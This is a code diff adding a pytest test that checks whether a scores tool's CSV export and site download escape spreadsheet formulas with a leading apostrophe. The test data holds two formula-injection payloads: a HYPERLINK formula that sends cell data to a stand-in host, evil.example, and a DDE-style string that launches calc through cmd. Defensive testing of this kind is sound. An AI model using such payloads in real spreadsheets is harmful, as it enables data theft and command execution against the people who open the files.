@@ -107,3 +107,25 @@ def test_csv_export_has_one_row_per_assessment_and_assessed_area(repo, cxm, tmp_
         "stage": "Emerging",
     }
     assert rows[2]["score"] == "3.67" and rows[2]["gap"] == "0.00"
+
+
+def test_csv_export_and_site_download_write_a_formula_as_text(repo, cxm, tmp_path):
+    # Text from a YAML file a spreadsheet would run: the export and the site's scores.csv
+    # write it with a leading ' (shown as text), the numbers as they are.
+    team = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    group = " @SUM(1+1)*cmd|' /C calc'!A0"
+    repo.assessment(
+        "evil/2026-09-30.yaml",
+        ASSESSMENT.replace("Payments Platform", json.dumps(team)).replace(
+            "Digital Channels", json.dumps(group)
+        ),
+    )
+    result = cxm("export", "--format", "csv")
+    assert result.code == 0, result.err
+    rows = list(csv.DictReader(io.StringIO(result.out, newline="")))
+    assert [(r["team"], r["group"]) for r in rows] == [(f"'{team}", f"'{group}")] * 3
+    first = rows[0]
+    assert (first["score"], first["gap"], first["overall"]) == ("3.67", "0.00", "3.08")
+    assert cxm("generate", "-o", tmp_path / "out").code == 0
+    [download] = (tmp_path / "out").rglob("scores.csv")
+    assert download.read_text(encoding="utf-8") == result.out
